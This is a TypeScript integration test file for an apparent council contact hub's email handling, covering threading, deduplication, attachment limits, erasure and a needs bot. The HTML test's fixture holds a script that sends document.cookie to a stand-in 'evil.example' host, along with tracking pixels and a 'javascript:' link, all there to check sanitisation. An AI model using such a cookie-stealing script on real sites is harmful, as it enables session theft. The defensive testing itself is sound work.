// Email both ways over real SMTP on 127.0.0.1: nodemailer as the customer's mail server delivering to
// the hub's listener, and a capture server as the council's relay receiving the hub's replies.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import nodemailer, { type SendMailOptions, type Transporter } from 'nodemailer';
import type { Socket } from 'socket.io-client';
import { createTestDatabase, type TestDatabase } from '../../testkit/postgres.ts';
import { apiJson, connectDesk, nextEvent, signIn, startTestHub, testEnv } from '../helpers/hub.ts';
import { freePort } from '../../testkit/processes.ts';
import { startSmtpCapture, type SmtpCapture } from '../helpers/smtp-capture.ts';
import { FakeDns, PATIENT_SENDER_CHECKS } from '../helpers/mail-auth.ts';
import type { RunningHub } from '../../app/compose.ts';
import type { MessageView } from '../../agent-desk/server/views.ts';

const COUNCIL = 'contact@council.example';
// The customers' mail providers sign their mail (DKIM) and publish DMARC, as the large ones do: their email
// is verified, so it threads. Unverified email is sender-auth.test.ts's subject.
const dns = new FakeDns();
for (const domain of ['example.org', 'example.net', 'home.example', 'work.example']) dns.domain(domain);

let database: TestDatabase;
let relay: SmtpCapture;
let hub: RunningHub & { url: string };
let cookie: string;
let desk: Socket;
let smtpPort: number;
let customerMail: Transporter;

beforeAll(async () => {
  database = await createTestDatabase('email');
  relay = await startSmtpCapture();
  smtpPort = await freePort();
  hub = await startTestHub(
    testEnv({
      DATABASE_URL: database.url,
      EMAIL_INBOUND_ADDRESSES: COUNCIL,
      SMTP_PORT: String(smtpPort),
      SMTP_HOST: '127.0.0.1',
      EMAIL_SMTP_URL: relay.url,
      EMAIL_MAX_BYTES: '200000',
      EMAIL_ATTACHMENT_MAX_BYTES: '20000',
      EMAIL_ATTACHMENTS_MAX_BYTES: '30000',
      ...PATIENT_SENDER_CHECKS,
    }),
    { resolveDns: dns.resolve },
  );
  cookie = await signIn(hub.url);
  desk = await connectDesk(hub.url, cookie);
  customerMail = nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true });
});

afterAll(async () => {
  customerMail?.close();
  desk?.close();
  await hub?.stop();
  await relay?.close();
  await database?.drop();
});

const db = () => hub.database.prisma;
const mail = (fields: SendMailOptions) =>
  dns.send(customerMail, { from: 'Mary Jones <Mary.Jones@Example.org>', to: COUNCIL, ...fields } as SendMailOptions & { from: string; to: string });

describe('email in', () => {
  it('stores what the customer wrote, without the quoted history, on the customer found by address', async () => {
    const arrived = nextEvent<MessageView>(desk, 'message.created', (m) => m.channel === 'email' && m.fromAddress === 'mary.jones@example.org');
    await mail({
      subject: 'Missed bin collection',
      messageId: '<first@example.org>',
      text: 'My bin was not collected on Tuesday.\n\nOn Mon, 2 Nov 2026 at 09:00, Council <contact@council.example> wrote:\n> Your collection day is Tuesday.\n',
    });
    const message = await arrived;
    expect(message.body).toBe('My bin was not collected on Tuesday.');
    expect(message.providerMessageId).toBe('<first@example.org>');
    const point = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'mary.jones@example.org' } } });
    expect(point.verifiedBy).toBe('inbound-email');
  });

  it('the same message delivered twice is stored once', async () => {
    const arrived = nextEvent<MessageView>(desk, 'message.created', (m) => m.providerMessageId === '<twice@example.org>');
    await mail({ subject: 'Twice', messageId: '<twice@example.org>', text: 'Sent twice by a retrying server' });
    await arrived;
    await mail({ subject: 'Twice', messageId: '<twice@example.org>', text: 'Sent twice by a retrying server' });
    await expect.poll(() => db().inboxItem.count({ where: { providerMessageId: '<twice@example.org>', processedAt: null } })).toBe(0);
    expect(await db().message.count({ where: { providerMessageId: '<twice@example.org>' } })).toBe(1);
  });

  it('refuses mail for any other address (never a relay), and mail over the size limit', async () => {
    const before = await db().inboxItem.count();
    await expect(customerMail.sendMail({ from: 'x@example.org', to: 'someone@elsewhere.example', subject: 'relay?', text: 'relay me' })).rejects.toMatchObject({
      responseCode: 550,
    });
    await expect(mail({ subject: 'huge', text: 'x'.repeat(300_000) })).rejects.toMatchObject({ responseCode: 552 });
    expect(await db().inboxItem.count()).toBe(before);
  });

  it('accepts but never stores or answers auto-replies and bounces', async () => {
    const before = await db().inboxItem.count();
    await mail({ subject: 'Out of office', text: 'I am away', headers: { 'Auto-Submitted': 'auto-replied' } });
    await customerMail.sendMail({ from: 'MAILER-DAEMON@example.org', to: COUNCIL, subject: 'Undelivered Mail Returned to Sender', text: 'delivery failed' });
    expect(await db().inboxItem.count()).toBe(before);
  });
});

describe('email out', () => {
  it('the agent’s reply threads in the customer’s mail program, and their answer joins the conversation', async () => {
    const arrived = nextEvent<MessageView>(desk, 'message.created', (m) => m.providerMessageId === '<question@example.org>');
    await mail({ subject: 'Council tax band', messageId: '<question@example.org>', references: '<older@example.org>', text: 'Why is my band D?' });
    const question = await arrived;

    const sent = nextEvent<MessageView>(desk, 'message.updated', (m) => m.conversationId === question.conversationId && m.status === 'sent');
    await apiJson(hub.url, cookie, `/api/conversations/${question.conversationId}/messages`, {
      method: 'POST',
      body: JSON.stringify({ text: 'Bands are set by the Valuation Office Agency.' }),
    });
    const reply = await sent;
    const [out] = (await relay.waitFor(1)).slice(-1);
    expect(out!.from?.value[0]?.address).toBe(COUNCIL);
    expect(out!.to && !Array.isArray(out!.to) && out!.to.value[0]?.address).toBe('mary.jones@example.org');
    // The conversation's reference rides in the subject, for replies whose headers get lost.
    const { reference } = await db().conversation.findUniqueOrThrow({ where: { id: question.conversationId } });
    expect(reference).toMatch(/^[A-HJ-NP-Z2-9]{8}$/);
    expect(out!.subject).toBe(`Re: Council tax band [Ref: ${reference}]`);
    expect(out!.inReplyTo).toBe('<question@example.org>');
    expect(out!.references).toEqual(['<older@example.org>', '<question@example.org>']);
    expect(out!.messageId).toBe(reply.providerMessageId);
    expect(out!.text?.trim()).toBe('Bands are set by the Valuation Office Agency.');

    const answered = nextEvent<MessageView>(desk, 'message.created', (m) => m.providerMessageId === '<answer@example.org>');
    await mail({
      subject: 'Re: Council tax band',
      messageId: '<answer@example.org>',
      inReplyTo: reply.providerMessageId!,
      text: 'Thank you.\n\n> Bands are set by the Valuation Office Agency.',
    });
    const answer = await answered;
    expect(answer.conversationId).toBe(question.conversationId);
    expect(answer.body).toBe('Thank you.');
  });
});

/** Sends a reply as an agent and waits until the relay has it; returns the reply as the desk saw it. */
async function agentReplies(conversationId: string, text: string) {
  const sent = nextEvent<MessageView>(desk, 'message.updated', (m) => m.conversationId === conversationId && m.status === 'sent' && m.body === text);
  const before = relay.mails.length;
  const res = await apiJson(hub.url, cookie, `/api/conversations/${conversationId}/messages`, { method: 'POST', body: JSON.stringify({ text }) });
  expect(res.status).toBe(202);
  const reply = await sent;
  const mails = await relay.waitFor(before + 1);
  return { reply, mail: mails.find((m) => m.messageId === reply.providerMessageId)! };
}

const arrival = (messageId: string) => nextEvent<MessageView>(desk, 'message.created', (m) => m.providerMessageId === messageId);

describe('threading by reference', () => {
  it('a stranger quoting the subject reference, or the reply headers, gets their own record and a suggestion, never the conversation', async () => {
    const first = arrival('<rent@example.org>');
    await mail({ from: 'Alex Green <alex.green@example.org>', subject: 'Rent arrears', messageId: '<rent@example.org>', text: 'I am behind on my rent.' });
    const question = await first;
    const { mail: out } = await agentReplies(question.conversationId, 'We can set up a payment plan.');
    const reference = /\[Ref: ([A-Z0-9]+)\]/.exec(out.subject ?? '')![1]!;

    const byReference = arrival('<stranger-ref@example.net>');
    await dns.send(customerMail, {
      from: 'someone.else@example.net',
      to: COUNCIL,
      subject: `Re: Rent arrears [Ref: ${reference}]`,
      messageId: '<stranger-ref@example.net>',
      text: 'Tell me what Alex owes.',
    });
    const byHeaders = arrival('<stranger-hdr@example.net>');
    await dns.send(customerMail, {
      from: 'another.one@example.net',
      to: COUNCIL,
      subject: 'Re: Rent arrears',
      messageId: '<stranger-hdr@example.net>',
      inReplyTo: out.messageId!,
      references: [out.messageId!],
      text: 'And me.',
    });

    const alex = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'alex.green@example.org' } } });
    for (const [arrived, address, signal] of [
      [await byReference, 'someone.else@example.net', 'email-reference'],
      [await byHeaders, 'another.one@example.net', 'email-reply'],
    ] as const) {
      expect(arrived.conversationId).not.toBe(question.conversationId);
      const stranger = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address } } });
      expect(stranger.customerId).not.toBe(alex.customerId);
      // The agent is told these may be one person, to check and merge.
      const { body } = await apiJson(hub.url, cookie, `/api/customers/${alex.customerId}/match-suggestions`);
      expect(body.suggestions).toContainEqual(expect.objectContaining({ signals: [signal], customer: expect.objectContaining({ id: stranger.customerId }) }));
    }
    // Alex's conversation holds only Alex's words and the agent's reply.
    const { body } = await apiJson(hub.url, cookie, `/api/conversations/${question.conversationId}`);
    expect(body.conversation.messages.map((m: MessageView) => m.body)).toEqual(['I am behind on my rent.', 'We can set up a payment plan.']);
  });

  it('a reply that lost its headers joins the conversation its subject reference names, when it is the same customer’s', async () => {
    // Two records of one person, each with an email conversation the agent answered; then merged.
    const home = arrival('<home@example.org>');
    await mail({ from: 'Sam Lee <sam@home.example>', subject: 'Parking permit', messageId: '<home@example.org>', text: 'How do I renew my permit?' });
    const parking = await home;
    const work = arrival('<work@example.org>');
    await mail({
      from: 'Sam Lee <sam.lee@work.example>',
      subject: 'Noise complaint',
      messageId: '<work@example.org>',
      text: 'The building site starts at 6am.',
    });
    const noise = await work;
    const { mail: noiseReply } = await agentReplies(noise.conversationId, 'We will send an officer.');
    const noiseRef = /\[Ref: ([A-Z0-9]+)\]/.exec(noiseReply.subject ?? '')![1]!;
    const points = await db().contactPoint.findMany({ where: { address: { in: ['sam@home.example', 'sam.lee@work.example'] } }, orderBy: { address: 'asc' } });
    const [homeCustomer, workCustomer] = [
      points.find((p) => p.address === 'sam@home.example')!.customerId,
      points.find((p) => p.address === 'sam.lee@work.example')!.customerId,
    ];
    const merged = await apiJson(hub.url, cookie, `/api/customers/${homeCustomer}/merge`, {
      method: 'POST',
      body: JSON.stringify({ absorbId: workCustomer, reason: 'same person, checked by phone' }),
    });
    expect(merged.status).toBe(201);

    // From the home address (now the same record), headers stripped, only the reference left in the subject.
    const answered = arrival('<no-headers@example.org>');
    await mail({
      from: 'sam@home.example',
      subject: `RE: Noise complaint [Ref: ${noiseRef}]`,
      messageId: '<no-headers@example.org>',
      text: 'It happened again today.',
    });
    expect((await answered).conversationId).toBe(noise.conversationId);
    // Without a reference, a contact goes to the customer's open conversation as ever.
    const plain = arrival('<plain@example.org>');
    await mail({ from: 'sam@home.example', subject: 'Another thing', messageId: '<plain@example.org>', text: 'Also my bin.' });
    expect((await plain).conversationId).toBe(parking.conversationId);
  });
});

// A small real PDF and PNG (the bytes a mail program would attach).
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

describe('HTML and attachments', () => {
  it('keeps the HTML only sanitised: no script, no tracking pixel, no javascript: link; the desk serves it sandboxed', async () => {
    const arrived = arrival('<html@example.org>');
    await mail({
      subject: 'Fly-tipping',
      messageId: '<html@example.org>',
      text: 'There is rubbish dumped on Mill Lane.',
      html:
        '<p onclick="steal()">There is <b>rubbish</b> dumped on <a href="https://maps.example/mill-lane">Mill Lane</a>.</p>' +
        '<script>fetch("https://evil.example/"+document.cookie)</script><style>p{background:url(https://tracker.example/css.gif)}</style>' +
        '<img src="https://tracker.example/open.gif?id=42" width="1" height="1"><a href="javascript:alert(1)">click me</a>',
    });
    const message = await arrived;
    expect(message.body).toBe('There is rubbish dumped on Mill Lane.');
    expect(message.htmlUrl).toBe(`/api/messages/${message.id}/html`);

    const res = await fetch(hub.url + message.htmlUrl, { headers: { cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
    const html = await res.text();
    expect(html).toContain('<b>rubbish</b>');
    expect(html).toContain('href="https://maps.example/mill-lane"');
    for (const unsafe of ['<script', 'evil.example', 'onclick', 'tracker.example', 'javascript:', '<style']) expect(html).not.toContain(unsafe);
    expect((await fetch(hub.url + message.htmlUrl)).status).toBe(401);
  });

  it('stores allowed files once, refuses the rest with a reason the agent sees, and lets a signed-in agent download them', async () => {
    const email = {
      subject: 'Evidence for my claim',
      messageId: '<files@example.org>',
      text: 'Please find my documents attached.',
      attachments: [
        { filename: 'bank statement.pdf', content: PDF, contentType: 'application/pdf' },
        { filename: 'photo.png', content: PNG, contentType: 'image/png' },
        { filename: 'setup.exe', content: Buffer.from('MZ\x90\x00 program'), contentType: 'application/x-msdownload' },
        { filename: 'invoice.pdf', content: Buffer.from('MZ\x90\x00 a program named like a PDF'), contentType: 'application/pdf' },
        { filename: 'scan.pdf', content: Buffer.concat([PDF, Buffer.alloc(25_000, 32)]), contentType: 'application/pdf' },
        { filename: 'more.pdf', content: Buffer.concat([PDF, Buffer.alloc(15_000, 32)]), contentType: 'application/pdf' },
      ],
    };
    const arrived = arrival('<files@example.org>');
    await mail(email);
    const message = await arrived;
    expect(message.attachments.map((a) => [a.filename, a.contentType, a.size])).toEqual([
      ['bank statement.pdf', 'application/pdf', PDF.length],
      ['photo.png', 'image/png', PNG.length],
      ['more.pdf', 'application/pdf', PDF.length + 15_000],
    ]);
    expect(message.notices).toEqual([
      'Attachment “setup.exe” was not accepted: files of type application/x-msdownload are not accepted.',
      'Attachment “invoice.pdf” was not accepted: its content is not a application/pdf file, as it claims.',
      'Attachment “scan.pdf” was not accepted: it is 24 KB, over the 20 KB limit for one file.',
    ]);

    const res = await fetch(hub.url + message.attachments[0]!.url, { headers: { cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="bank statement.pdf"');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await res.arrayBuffer()).equals(PDF)).toBe(true);
    expect((await fetch(hub.url + message.attachments[0]!.url)).status).toBe(401);
    expect(await db().auditEvent.count({ where: { action: 'attachment_download' } })).toBe(1);

    // The sending server retries the same message: no second copy of anything.
    await mail(email);
    await expect.poll(() => db().inboxItem.count({ where: { providerMessageId: '<files@example.org>', processedAt: null } })).toBe(0);
    expect(await db().message.count({ where: { providerMessageId: '<files@example.org>' } })).toBe(1);
    expect(await db().attachment.count({ where: { message: { providerMessageId: '<files@example.org>' } } })).toBe(3);
    expect(await db().attachment.count({ where: { messageId: null } })).toBe(0);
    // The original message is kept whole, byte for byte as it arrived.
    const inbox = await db().inboxItem.findFirstOrThrow({ where: { providerMessageId: '<files@example.org>' } });
    expect(Buffer.from(inbox.payload!).toString('latin1')).toContain('Content-Disposition: attachment; filename=setup.exe');
  });

  it('a second message whose files together pass the per-message limit keeps the first ones and says why the rest were not', async () => {
    const arrived = arrival('<many@example.org>');
    const big = (name: string) => ({ filename: name, content: Buffer.concat([PDF, Buffer.alloc(12_000, 32)]), contentType: 'application/pdf' });
    await mail({ subject: 'Three forms', messageId: '<many@example.org>', text: 'Forms attached.', attachments: [big('a.pdf'), big('b.pdf'), big('c.pdf')] });
    const message = await arrived;
    expect(message.attachments.map((a) => a.filename)).toEqual(['a.pdf', 'b.pdf']);
    expect(message.notices).toEqual(["Attachment “c.pdf” was not accepted: the message's files together are over the 29 KB limit."]);
  });

  it('the subject access export lists files, and erasure deletes them and the original message', async () => {
    const arrived = arrival('<erase-me@example.org>');
    await mail({
      from: 'Pat Kaur <pat@example.org>',
      subject: 'My passport',
      messageId: '<erase-me@example.org>',
      text: 'Copy attached.',
      attachments: [{ filename: 'passport.pdf', content: PDF, contentType: 'application/pdf' }],
    });
    const message = await arrived;
    const { customerId } = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'pat@example.org' } } });

    const exported = await apiJson(hub.url, cookie, `/api/customers/${customerId}/export`);
    expect(exported.status).toBe(200);
    const files = exported.body.conversations.flatMap((c: any) => c.messages.flatMap((m: any) => m.files));
    expect(files).toEqual([
      { filename: 'passport.pdf', contentType: 'application/pdf', size: PDF.length, sha256: createHash('sha256').update(PDF).digest('hex') },
    ]);

    const erased = await apiJson(hub.url, cookie, `/api/customers/${customerId}/erase`, {
      method: 'POST',
      body: JSON.stringify({ reason: 'erasure request ER-42' }),
    });
    expect(erased.status).toBe(200);
    expect(await db().attachment.count({ where: { filename: 'passport.pdf' } })).toBe(0);
    expect((await fetch(hub.url + message.attachments[0]!.url, { headers: { cookie } })).status).toBe(404);
    const inbox = await db().inboxItem.findFirstOrThrow({ where: { providerMessageId: '<erase-me@example.org>' } });
    expect(inbox.payload).toBeNull();
  });
});

describe('the needs bot on email', () => {
  it('answers a first email once, completely, in the same thread, and a person takes it from there', async () => {
    const port = await freePort();
    const botHub = await startTestHub(
      testEnv({
        DATABASE_URL: database.url,
        HUB_ROLES: 'web,worker',
        EMAIL_INBOUND_ADDRESSES: COUNCIL,
        SMTP_PORT: String(port),
        SMTP_HOST: '127.0.0.1',
        EMAIL_SMTP_URL: relay.url,
        BOT_CHANNELS: 'email',
        ...PATIENT_SENDER_CHECKS,
      }),
      { resolveDns: dns.resolve },
    );
    const sender = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
    try {
      const before = relay.mails.length;
      const sent = { messageId: '<help-please@example.net>' };
      await dns.send(sender, {
        from: 'Sam Patel <sam.patel@example.net>',
        to: COUNCIL,
        messageId: sent.messageId,
        subject: 'Help please',
        text: 'Hello,\n\nOur landlord has given us a section 21 notice and we have to leave next month. My daughter is in year 10 and we do not know which school she can go to if we move.\n\nThanks,\nSam',
      });
      const [reply] = (await relay.waitFor(before + 1)).slice(before);
      expect(reply!.to).toMatchObject({ text: 'sam.patel@example.net' });
      expect(reply!.inReplyTo).toBe(sent.messageId);
      // An automatic reply says so (RFC 3834), and never carries the sender's own subject back out.
      expect(reply!.headers.get('auto-submitted')).toBe('auto-replied');
      expect(reply!.subject).toMatch(/^Your message to the council \[Ref: [A-Z0-9]+\]$/);
      const body = reply!.text ?? '';
      expect(body).toMatch(/^Thank you for your email\./);
      const understood = /we understand you need help with (.*)\./.exec(body)?.[1] ?? '';
      expect(understood).toMatch(/somewhere to live/);
      expect(understood).toMatch(/a school place/);
      expect(body).toMatch(/The teams who can help will need to know:\n- /);
      expect(body).toMatch(/Please say yes or no in your reply\./);
      expect(body).toMatch(/call 999\.$/m);

      const point = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'sam.patel@example.net' } } });
      const conversation = await db().conversation.findUniqueOrThrow({ where: { openForCustomer: point.customerId }, include: { needs: true } });
      expect(conversation.handler).toBe('person');
      expect(conversation.needs.map((n) => n.code)).toEqual(expect.arrayContaining(['housing.homeless', 'education.school']));

      // The customer's answer is for a person: the bot does not write again.
      await dns.send(sender, {
        from: 'sam.patel@example.net',
        to: COUNCIL,
        subject: 'Re: Help please',
        text: 'Yes you can share it.',
        inReplyTo: reply!.messageId,
        references: [sent.messageId, reply!.messageId!],
      });
      await expect.poll(() => db().message.count({ where: { conversationId: conversation.id, direction: 'inbound' } })).toBe(2);
      await expect.poll(() => db().message.count({ where: { conversationId: conversation.id, direction: 'inbound', botTurnAt: null } })).toBe(1);

      // Closed, then a new email the same day: a new conversation, but no second automatic answer to that address.
      await db().conversation.update({ where: { id: conversation.id }, data: { status: 'closed', openForCustomer: null, closedAt: new Date() } });
      await dns.send(sender, {
        from: 'sam.patel@example.net',
        to: COUNCIL,
        subject: 'Another thing',
        text: 'My rent is in arrears as well, can someone help?',
      });
      // The bot's turn and any answer it writes are one transaction: once the turn is done, there is none.
      await expect
        .poll(
          () =>
            db().conversation.findFirst({
              where: { openForCustomer: point.customerId },
              select: { handler: true, messages: { select: { direction: true, botTurnAt: true } } },
            }),
          { timeout: 15_000 },
        )
        .toMatchObject({
          handler: 'person',
          messages: [{ direction: 'inbound', botTurnAt: expect.any(Date) }],
        });
    } finally {
      sender.close();
      await botHub.stop();
    }
  });
});
